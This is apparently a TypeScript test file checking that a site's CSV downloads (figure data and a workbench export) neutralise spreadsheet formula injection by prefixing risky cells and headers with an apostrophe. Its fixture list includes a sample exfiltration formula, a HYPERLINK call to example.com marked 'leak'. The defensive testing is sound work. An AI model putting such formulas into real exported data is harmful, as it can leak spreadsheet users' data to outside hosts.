// Every CSV the site writes (a figure's download and the workbench's) must open in a
// spreadsheet without running anything a cell or a column name says.
import {tableFromArrays} from "apache-arrow";
import {csvParseRows} from "d3-dsv";
import {describe, expect, it} from "vitest";
import {csvCell, csvText} from "../../src/components/cellText.ts";
import {rowsToCsv} from "../../src/components/figureData.ts";
import {batchColumns} from "../../src/components/workbench/cells.ts";
import {toCsv} from "../../src/components/workbench/exporters.ts";

const FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://example.com/?leak","x")'];

describe("CSV cells that a spreadsheet would run", () => {
  it("get an apostrophe in front when they start with =, +, -, @, a tab or a carriage return", () => {
    for (const text of FORMULAS) expect(csvText(text)).toBe(`'${text}`);
    expect(csvText("plain text")).toBe("plain text");
    expect(csvText("1-2")).toBe("1-2");
  });

  it("leave numbers alone, minus sign included, and neutralise JSON text too", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell("-5")).toBe("'-5");
    expect(csvCell(["=1"])).toBe('["=1"]');
  });

  it("are neutralised in a figure's download, header included", () => {
    const rows = Object.assign(FORMULAS.map((label, i) => ({"=cmd": label, value: -i})), {columns: ["=cmd", "value"]});
    const parsed = csvParseRows(rowsToCsv(rows).trimEnd());
    expect(parsed[0]).toEqual(["'=cmd", "value"]);
    expect(parsed.slice(1).map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(parsed.slice(1).map((r) => r[1])).toEqual(FORMULAS.map((_, i) => String(-i)));
  });

  it("are neutralised in the workbench's download", () => {
    const table = tableFromArrays({"@who": FORMULAS, n: Float64Array.from(FORMULAS.map((_, i) => -i))});
    const parsed = csvParseRows(toCsv(batchColumns(table.schema), table.batches));
    expect(parsed[0]).toEqual(["'@who", "n"]);
    expect(parsed.slice(1).map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(parsed[2][1]).toBe("-1");
  });
});
